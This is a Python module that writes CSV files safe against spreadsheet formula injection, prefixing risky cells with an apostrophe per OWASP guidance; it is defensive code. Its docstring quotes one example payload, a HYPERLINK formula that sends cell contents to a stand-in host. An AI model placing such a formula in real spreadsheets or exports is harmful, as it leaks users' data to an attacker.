"""Every CSV Sweetspot writes, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: a trial note ``=HYPERLINK("http://evil.example/?leak="&A2,"Click")``
in a downloaded trials table leaks the sheet to whoever wrote it, and in the public demo
any visitor downloads another's notes (issue 23.3). Following OWASP's guidance on CSV
injection, every text cell (column names included) that starts so gets a leading ``'``,
which spreadsheets read as "this is text", and every text cell is quoted. Numbers and
booleans are written as they are, unquoted, so they stay numbers for whoever opens the file.

Write every CSV through ``safe_csv``: the Monitor's trials download uses it, and any new
one (predictions, exports) should too.
"""

from __future__ import annotations

import csv
import numbers
from typing import Any

import pandas as pd

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet should show it: text that starts a formula gets a leading
    ``'``; numbers, booleans and gaps are returned unchanged, anything else as text."""
    if value is None or isinstance(value, numbers.Number) or value is pd.NA:
        return value  # bool and numpy numbers are Numbers too; NaN is a float
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text without its index, every text cell neutralised and quoted."""
    safe = frame.copy(deep=False)
    for index in range(safe.shape[1]):  # by position: column names may repeat
        column = safe.iloc[:, index]
        if not _plain_values(column):
            safe.isetitem(index, column.map(neutralise))
    safe.columns = [neutralise(str(name)) for name in safe.columns]
    return safe.to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC)


def _plain_values(column: pd.Series) -> bool:
    """True for a column pandas writes as numbers or booleans only (no text can hide in it)."""
    return pd.api.types.is_numeric_dtype(column) or pd.api.types.is_bool_dtype(column)
